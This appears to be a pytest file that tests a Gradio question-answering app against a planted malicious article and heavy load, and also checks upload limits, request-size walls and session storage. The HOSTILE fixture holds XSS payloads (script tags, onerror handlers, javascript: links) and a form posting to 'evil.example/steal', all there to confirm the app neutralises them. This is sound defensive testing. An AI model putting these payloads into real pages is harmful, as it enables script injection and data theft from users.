"""The app under hostile input and load: a planted malicious article in a real browser, 30 users."""

import json
import os
import shutil
import threading
import time
import urllib.request

import numpy as np
import pytest

from tests.conftest import CORPUS, served_app
from tests.test_app import browser_page, screenshot_path

HOSTILE = """---
title: <script>window.__pwned = 'title'</script>Kerja sama Evilton
outlet: <img src=x onerror="window.__pwned='outlet'">
url: javascript:window.__pwned='url'
---
Kota Bogor menandatangani kerja sama dengan Kota Evilton <script>window.__pwned='script'</script> pada 1 Mei 2024.

Wali Kota Evilton <img src=x onerror="window.__pwned='img'"> menyambut kerja sama itu [klik](javascript:window.__pwned='link').

Foto kerja sama Evilton ![x](http://evil.example/track.png) <img src="http://evil.example/pixel.png"> dan <form action="http://evil.example/steal"><input name=q value=rahasia><button>Kirim</button></form> <iframe src="http://evil.example/"></iframe>
"""


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory, embedder):
    from rag.config import load_settings
    from rag.assistant import Assistant
    from rag.build import build_index

    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "corpus"
    shutil.copytree(CORPUS, corpus)
    (corpus / "evilton.md").write_text(HOSTILE, encoding="utf-8")
    settings = load_settings(corpus=corpus, index=root / "index", environ={})
    build_index(settings, embedder, show_progress=False)
    with served_app(Assistant.open(settings, embedder)) as (url, _):
        yield url


@pytest.mark.browser
def test_a_malicious_article_runs_nothing_and_loads_nothing_from_elsewhere(hostile_app, tmp_path):
    from playwright.sync_api import expect

    with browser_page(hostile_app) as (page, elsewhere, response):
        assert "img-src 'self'" in response.headers["content-security-policy"]
        box = page.get_by_label("Pertanyaan")
        box.fill("Apa kerja sama Kota Bogor dengan Kota Evilton?")
        box.press("Enter")
        expect(page.get_by_text("evilton, karakter").first).to_be_visible(timeout=30_000)  # the source card
        for summary in page.locator("#sources summary").all():  # open every card: the whole articles
            summary.click()
        expect(page.locator(".rag-article").first).to_be_visible()
        page.wait_for_timeout(1500)
        page.screenshot(path=screenshot_path(tmp_path, "hostile.png"), full_page=True)
        assert page.evaluate("window.__pwned") is None
        assert page.get_by_text("<script>window.__pwned='script'</script>").count() >= 1  # shown as text
        for selector in ("form[action*='evil']", "img[src*='evil']", "iframe[src*='evil']", "a[href^='javascript']", "a[href*='evil']"):
            assert page.locator(selector).count() == 0, selector
        assert elsewhere == []


def ask_over_http(base: str, question: str, timeout: float = 120.0) -> tuple[float, dict]:
    """One /ask call through Gradio's HTTP API (POST, then read the event stream)."""
    started = time.perf_counter()
    request = urllib.request.Request(
        base + "gradio_api/call/ask", data=json.dumps({"data": [question, [], None, None, None]}).encode(),
        headers={"Content-Type": "application/json"}, method="POST",
    )
    with urllib.request.urlopen(request, timeout=timeout) as response:
        event_id = json.loads(response.read())["event_id"]
    with urllib.request.urlopen(f"{base}gradio_api/call/ask/{event_id}", timeout=timeout) as stream:
        body = stream.read().decode("utf-8")
    data = [line[len("data: "):] for line in body.splitlines() if line.startswith("data: ")]
    return time.perf_counter() - started, json.loads(data[-1])[0]


@pytest.mark.slow
def test_thirty_users_asking_at_once_all_get_an_answer(assistant, monkeypatch):
    embedding_ms = []
    encode_queries = assistant.embedder.encode_queries

    def timed(texts):  # how long each question's embedding takes while the others run
        started = time.perf_counter()
        vectors = encode_queries(texts)
        embedding_ms.append((time.perf_counter() - started) * 1000)
        return vectors

    monkeypatch.setattr(assistant.embedder, "encode_queries", timed)
    # Questions asked before in this session are remembered (Embedder.encode_query): start afresh.
    monkeypatch.delitem(assistant.embedder.__dict__, "_remembered_queries", raising=False)
    questions = ["Siapa Wali Kota Kisarazu?", "Sejak kapan Kota Bogor resmi bergabung dengan UCLG ASPAC?",
                 "Di mana World Smart City Expo 2024 diselenggarakan?"]
    results, errors = [], []
    start = threading.Barrier(30)

    def user(i):
        try:
            start.wait(timeout=30)
            results.append(ask_over_http(url, questions[i % len(questions)]))
        except Exception as error:  # noqa: BLE001 (recorded and asserted below)
            errors.append(repr(error))

    with served_app(assistant) as (url, _):
        threads = [threading.Thread(target=user, args=(i,)) for i in range(30)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=180)
    assert errors == []
    assert len(results) == 30
    assert all(not answer["abstained"] and answer["citations"] for _, answer in results)
    seconds = np.array([s for s, _ in results])
    # Each question embedded while the others ran; asked again, remembered (at most once a user
    # when several miss at the same moment).
    assert len(questions) <= len(embedding_ms) <= 30
    print(f"30 users: p50 {np.percentile(seconds, 50) * 1000:.0f} ms, p95 {np.percentile(seconds, 95) * 1000:.0f} ms; "
          f"query embedding p50 {np.percentile(embedding_ms, 50):.0f} ms, p95 {np.percentile(embedding_ms, 95):.0f} ms")


def test_an_upload_is_refused_before_anything_is_written(assistant):
    import http.client
    import tempfile
    from pathlib import Path

    def temp_files() -> set[Path]:  # where Gradio writes what it is sent
        return set(Path(os.environ.get("GRADIO_TEMP_DIR") or Path(tempfile.gettempdir(), "gradio")).rglob("*"))

    before = temp_files()
    with served_app(assistant) as (url, _):
        host, port = url.split("//")[1].strip("/").split(":")
        body = b"x" * (30 * 1024 * 1024)
        connection = http.client.HTTPConnection(host, int(port), timeout=30)
        headers = {"Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(len(body))}
        try:
            connection.request("POST", "/gradio_api/upload", body=body, headers=headers)
            response = connection.getresponse()
            status, text = response.status, response.read().decode()
        except (BrokenPipeError, ConnectionResetError):
            status, text = 404, "closed before the body was sent"
        finally:
            connection.close()
    assert status == 404, (status, text)
    assert temp_files() == before


def test_no_run_history_is_kept_in_the_browser(assistant):
    """Gradio's run history would store each question in the browser; with it off the page is 404."""
    import urllib.error

    with served_app(assistant) as (url, _):
        config = json.load(urllib.request.urlopen(url + "config", timeout=30))
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(url + "gradio_api/runs", timeout=30)
    assert config["run_history"] is False
    assert "runs" not in config.get("footer_links", [])
    assert refused.value.code == 404


def test_the_http_wall_refuses_what_gradio_would_take_with_a_message(assistant):
    """Too few positional values, a declared body over the limit, a chunked one that grows over it:
    each refused with a sentence before Gradio reads it; a named call still fills the defaults."""
    import http.client

    from rag.limits import MAX_REQUEST_BYTES
    from tests.hostile_load import post, post_expecting_continue

    def chunked(host: str, port: int, size: int) -> tuple[int, str]:
        connection = http.client.HTTPConnection(host, port, timeout=30)
        try:
            connection.request("POST", "/gradio_api/call/ask", body=iter([b"x" * 100_000] * (size // 100_000)),
                               headers={"Content-Type": "application/json"}, encode_chunked=True)
            response = connection.getresponse()
            return response.status, response.read().decode()
        except (BrokenPipeError, ConnectionResetError):
            return 0, "closed while sending"
        finally:
            connection.close()

    with served_app(assistant) as (url, _):
        host, port = url.split("//")[1].strip("/").split(":")
        few = post(url, json.dumps({"data": []}).encode())
        one = post(url, json.dumps({"data": ["Siapa Wali Kota Kisarazu?"]}).encode())  # the optional ones sent as null
        named = urllib.request.urlopen(urllib.request.Request(
            url + "gradio_api/call/v2/ask", data=json.dumps({"question": "Siapa Wali Kota Kisarazu?"}).encode(),
            headers={"Content-Type": "application/json"}, method="POST"), timeout=60)
        event_id = json.loads(named.read())["event_id"]
        answered = urllib.request.urlopen(f"{url}gradio_api/call/ask/{event_id}", timeout=60).read().decode()
        declared = post_expecting_continue(url, b"x" * (MAX_REQUEST_BYTES + 1))
        grown = chunked(host, int(port), 2 * MAX_REQUEST_BYTES)
        after = post(url, json.dumps({"data": ["Siapa Wali Kota Kisarazu?", [], None, None, None]}).encode())
    assert few[0] == 422
    assert json.loads(few[1]["error"])["error"].startswith(
        "/ask takes a list of 6 values in this order: question, history, since, until, outlets, infer_time; got 0.")
    assert one[0] == 200 and not one[1]["abstained"]
    assert "Yushikuni Watanabe" in answered
    assert declared[0] == 413 and declared[1].startswith("the request is over 1 MB")
    assert grown[0] in (0, 413)
    assert after[0] == 200 and not after[1]["abstained"]  # a call written before infer_time was added


def test_api_calls_leave_no_session_behind(assistant):
    """Gradio keeps each call's inputs and output in a session, 10,000 of them (91 KB a question):
    the API's calls are stateless, so none stays."""
    from tests.hostile_load import ask_body, post

    with served_app(assistant) as (url, app):
        for _ in range(5):
            post(url, ask_body("Siapa Wali Kota Kisarazu?", ["Bogor"]))
        checked = post(url, json.dumps({"data": ["Wali Kota Kisarazu adalah Yushikuni Watanabe"]}).encode(), api="check")
        listed = post(url, json.dumps({"data": ["Seoul", None, None]}).encode(), api="partnerships")
        refused = post(url, json.dumps({"data": [""]}).encode(), api="check")
        sessions = dict(app.demo.state_holder.session_data)
    assert sessions == {}
    assert checked[0] == 200 and checked[1]["verdict"] == "supported"
    assert listed[0] == 200 and listed[1][0]["partner"] == "Seoul"
    assert refused[0] == 200 and refused[1]["error"].startswith("empty claim")  # a message, not {"error": null}


@pytest.mark.slow
def test_oversized_requests_leave_the_apps_memory_as_it_was(tmp_path):
    """`python app.py` in its own process, measured by tests.hostile_load (which prints the times)."""
    from tests.hostile_load import measure

    result = measure(index=str(tmp_path / "index"), questions=10)  # built from corpus/ on start
    idle, burst, flood, under_the_wall, _ = result["phases"]
    print(json.dumps(result, indent=1))
    for busy in (burst, flood, under_the_wall):
        assert busy["hostile_refused"] == busy["hostile_requests"] > 0
    for busy in (burst, flood):
        assert busy["rss_after_mb"] <= 1.2 * idle["rss_after_mb"], busy
    assert result["ten_mb_history"]["status"] == 413
